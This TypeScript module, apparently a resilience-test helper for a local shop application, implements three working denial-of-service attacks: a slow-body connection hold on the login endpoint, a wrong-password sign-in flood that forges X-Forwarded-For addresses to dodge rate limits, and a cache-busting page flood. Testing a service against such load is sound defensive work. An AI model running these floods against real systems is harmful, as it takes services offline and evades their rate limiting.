import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';

export type EndAttack = () => Promise<void>;

export const SLOW_BODIES = 300;
export const GUESSERS = 24;
export const WANDERERS = 24;

const DRIP_MS = 1000;

export async function openSlowBodies(url: string): Promise<EndAttack> {
  const { hostname, port } = new URL(url);
  const head =
    'POST /api/account/login HTTP/1.1\r\nHost: shop\r\n' +
    'Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\nemail=';
  const sockets: Socket[] = [];
  for (let count = 0; count < SLOW_BODIES; count += 1) {
    const socket = connect(Number(port), hostname);
    socket.on('error', () => undefined);
    await once(socket, 'connect');
    socket.write(head);
    sockets.push(socket);
  }
  const drip = setInterval(() => {
    for (const socket of sockets) if (socket.writable) socket.write('a');
  }, DRIP_MS);
  return async () => {
    clearInterval(drip);
    for (const socket of sockets) socket.destroy();
  };
}

function flood(clients: number, ask: (count: number) => Promise<Response>): EndAttack {
  const over = new AbortController();
  let count = 0;
  const asking = Array.from({ length: clients }, async () => {
    while (!over.signal.aborted) {
      count += 1;
      try {
        await (await ask(count)).arrayBuffer();
      } catch {
        await pause(10);
      }
    }
  });
  return async () => {
    over.abort();
    await Promise.all(asking);
  };
}

/**
 * Floods sign-in with wrong passwords. Each request has a new IP address and email address, so no account's rate
 * limit applies.
 */
export function floodSignIns(url: string): EndAttack {
  return flood(GUESSERS, (count) =>
    fetch(`${url}/api/account/login`, {
      method: 'POST',
      headers: { 'x-forwarded-for': `172.16.${(count >> 8) & 255}.${count & 255}` },
      body: new URLSearchParams({ email: `nobody${count}@example.com`, password: 'guessed-wrong' }),
    }),
  );
}

export function floodPages(url: string): EndAttack {
  return flood(WANDERERS, (count) => {
    const name = count % 2 === 0 ? 'search' : `n${count}`;
    return fetch(`${url}/shop?${name}=${Math.random().toString(36).slice(2)}`);
  });
}
